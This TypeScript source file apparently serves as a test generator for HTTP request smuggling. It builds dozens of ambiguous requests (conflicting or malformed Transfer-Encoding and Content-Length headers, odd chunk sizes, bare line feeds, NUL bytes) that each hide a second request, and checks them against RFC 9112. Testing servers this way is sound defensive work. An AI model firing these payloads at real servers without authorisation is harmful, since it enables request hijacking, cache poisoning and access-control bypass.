/** A request that parsers could take for two, with another request in an ambiguous body. */
export interface Attack {
  readonly name: string;
  readonly text: string;
  /** Whether the hidden request is in the body according to RFC 9112, regardless of the rest. */
  readonly isInBody: boolean;
}

/** All ways to hide a request, with the ids of the sent request and of the hidden one. Each is one write. */
export function attacks({ outer, inner }: Readonly<Record<'outer' | 'inner', string>>): readonly Attack[] {
  const hidden = `GET /openapi.json HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${inner}\r\n\r\n`;
  const { length } = hidden;
  const started = (line: string) => `${line}\r\nHost: x\r\nX-Request-Id: ${outer}\r\n`;
  const post = started('POST /api/v1/auth.json HTTP/1.1');
  const json = `${post}Content-Type: application/json\r\n`;
  const chunkedEnd = `0\r\n\r\n${hidden}`;
  const codings = [
    ...['Transfer-Encoding: chunked', 'transfer-encoding: Chunked', 'Transfer-Encoding:\tchunked'],
    ...[
      'Transfer-Encoding: xchunked',
      'Transfer-Encoding: chunked, identity',
      'Transfer-Encoding: , chunked',
    ],
    ...['Transfer-Encoding : chunked', 'Transfer-Encoding:\r\n chunked', ' Transfer-Encoding: chunked'],
    ...['Transfer-Encoding: chunked\u000b', 'Transfer-Encoding: "chunked"'],
    ...['Transfer\u0000-Encoding: chunked', 'X: a\nTransfer-Encoding: chunked'],
    ...['X: a\rTransfer-Encoding: chunked', 'Transfer_Encoding: chunked'],
  ];
  const lengths = [
    ...[`${length}, ${length}`, `0, ${length}`, `+${length}`, `-${length}`, `0x${length.toString(16)}`],
    ...[`${length}.0`, `${length} 0`, `${length}_`, '', '18446744073709551616', `\r\n ${length}`],
  ];
  const chunkSizes = [
    ...['0x2', '-2', '+2', '2 ', '2;a\nb', '02\u0000', '10000000000000002', 'ffffffffffffffffff', '2\n', ''],
  ];
  const lines = {
    'obs-fold': 'X: a\r\n b',
    'obs-fold by a tab': 'X: a\r\n\tContent-Length: 0',
    'a line feed for a line’s end': 'X: a\nContent-Length: 0',
    'a carriage return for a line’s end': 'X: a\rContent-Length: 0',
    'a line without a colon': 'Content-Length',
    'a line without a name': ': 0',
    'white space before the colon': 'Content-Length : 0',
  };
  const chunked = `${json}Transfer-Encoding: chunked\r\n`;
  const measured = `Content-Length: ${length}\r\n\r\n${hidden}`;
  const get = started('GET /openapi.json HTTP/1.1');
  const ambiguous = {
    ...named(codings, (line) => [
      JSON.stringify(line),
      `${json}Content-Length: ${chunkedEnd.length}\r\n${line}\r\n\r\n${chunkedEnd}`,
    ]),
    'chunks, and then a length': `${chunked}Content-Length: ${chunkedEnd.length}\r\n\r\n${chunkedEnd}`,
    'two codings': `${chunked}Transfer-Encoding: identity\r\n\r\n${chunkedEnd}`,
    'two lengths': `${json}Content-Length: 0\r\n${measured}`,
    'two lengths, turned around': `${json}Content-Length: ${length}\r\nContent-Length: 0\r\n\r\n${hidden}`,
    'two equal lengths': `${json}Content-Length: ${length}\r\ncontent-length: ${length}\r\n\r\n${hidden}`,
    ...named(lengths, (written) => [
      `a length of ${JSON.stringify(written)}`,
      `${json}Content-Length: ${written}\r\n\r\n${hidden}`,
    ]),
    ...named(chunkSizes, (size) => [
      `a chunk of ${JSON.stringify(size)}`,
      `${chunked}\r\n${size}\r\n{}\r\n${chunkedEnd}`,
    ]),
    'a chunk that is longer than it says': `${chunked}\r\n1\r\n{}\r\n${chunkedEnd}`,
    'a chunk that ends by a line feed': `${chunked}\r\n2\r\n{}\n${chunkedEnd}`,
    ...named(Object.entries(lines), ([name, line]) => [name, `${json}${line}\r\n${measured}`]),
    'line feeds everywhere': `${json}Content-Length: ${length}\r\n\r\n`.replaceAll('\r\n', '\n') + hidden,
    'a line feed at the end of the head': `${json}Content-Length: ${length}\r\n\n${hidden}`,
    'HTTP/1.0 in chunks': `${started('POST /api/v1/auth.json HTTP/1.0')}Transfer-Encoding: chunked\r\n\r\n${chunkedEnd}`,
    'a version of its own': `${started('POST /api/v1/auth.json HTTP/1.1 HTTP/1.1')}${measured}`,
    'two hosts': `${json}Host: y\r\n${measured}`,
  };
  const inBody = {
    'a body of a type that is not read': `${post}Content-Type: text/plain\r\n${measured}`,
    'a body of GET': `${get}${measured}`,
    'a chunk of GET': `${get}Transfer-Encoding: chunked\r\n\r\n${length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
    'a body where nothing is': `${started('POST /nope HTTP/1.1')}${measured}`,
    'a body of a method that is not allowed': `${started('PUT /openapi.json HTTP/1.1')}${measured}`,
    'a body of OPTIONS': `${started('OPTIONS /api/v1/auth.json HTTP/1.1')}${measured}`,
    'a body that waits for 100 Continue': `${json}Expect: 100-continue\r\n${measured}`,
    'a body that is shorter than announced': `${json}Content-Length: ${length + 10}\r\n\r\n${hidden}`,
    'a body that is too large': `${json}Content-Length: ${20_000 + length}\r\n\r\n${' '.repeat(20_000)}${hidden}`,
    'a trailer': `${chunked}\r\n2\r\n{}\r\n0\r\nX-Trailer: ${hidden.split('\r\n')[0]}\r\nX-Request-Id: ${inner}\r\n\r\n`,
  };
  const attacksOf = (texts: Readonly<Record<string, string>>, isInBody: boolean) =>
    Object.entries(texts).map(([name, text]): Attack => ({ name, text, isInBody }));
  return [...attacksOf(ambiguous, false), ...attacksOf(inBody, true)];
}

function named<T>(values: readonly T[], attack: (value: T) => readonly [name: string, text: string]) {
  return Object.fromEntries(values.map(attack));
}
